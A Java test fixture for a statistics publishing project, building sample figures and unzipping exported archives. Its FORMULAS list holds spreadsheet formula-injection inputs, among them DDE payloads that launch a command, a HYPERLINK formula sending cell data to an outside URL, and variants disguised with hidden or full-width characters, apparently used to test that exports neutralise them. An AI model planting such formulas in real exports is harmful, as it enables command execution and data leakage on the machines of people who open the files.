package org.panelwatch.publish;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.panelwatch.figure.Cell;
import org.panelwatch.figure.Column;
import org.panelwatch.figure.Figure;
import org.panelwatch.figure.Row;
import org.panelwatch.question.Question;
import org.panelwatch.question.index.Questions;
import org.panelwatch.reference.Shipped;
import org.panelwatch.selection.Criterion;
import org.panelwatch.selection.Period;
import org.panelwatch.selection.Selection;

/** Files of figures for tests. */
final class Publications {

    static final List<String> FORMULAS = List.of(
            "=1+1",
            "+44 20",
            "-2",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u00a0=1",
            "\u200b=1",
            "\ufeff=1",
            "  \n\t @SUM(A1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://example.org?x=\"&A1,\"y\")",
            "=IMPORTXML(\"https://example.org\",\"//a\")",
            "+cmd|' /C calc'!A0",
            "-1+1+cmd|' /C calc'!A0",
            "@=1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20SUM(A1)",
            " \uff1dcmd|' /C calc'!A0",
            "\tplain",
            "\rplain");

    private static final Site SITE = Site.parse("https://panelwatch.example");

    private Publications() {}

    static Stream<Publication> everyQuestion() {
        Selection kent = Selection.ALL.with(Criterion.FORCE, List.of("kent")).with(new Period(2019, 2021));
        Selection nothing = Selection.ALL.with(new Period(1950, 1960));
        return Questions.all().stream()
                .flatMap(question -> Stream.of(Selection.ALL, kent, nothing).map(chosen -> of(question, chosen)));
    }

    static Publication of(Question question, Selection selection) {
        return new Publication(
                Shipped.figure(question, selection.live()), selection, question.page(), question.title(), SITE);
    }

    static Publication of(Figure figure) {
        return new Publication(figure, Selection.ALL, "/outcomes", "What is said", SITE);
    }

    /** A row for each text, with a number beside it. */
    static Figure texts(List<String> texts) {
        Figure whole = Shipped.figure(Questions.OUTCOMES_OVER_TIME, Selection.ALL);
        return new Figure(
                "texts",
                "T",
                "S",
                "S.",
                whole.drawing(),
                List.of(Column.word("text", "Text"), Column.count("n", "Number", "officers")),
                texts.stream().map(text -> Row.of(Cell.of(text), Cell.of(-3))).toList(),
                List.of(),
                List.of(),
                whole.release());
    }

    /** The files of an archive, in their order. */
    static Map<String, byte[]> files(byte[] archive) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                files.put(entry.getName(), zip.readAllBytes());
            }
        }
        return files;
    }
}
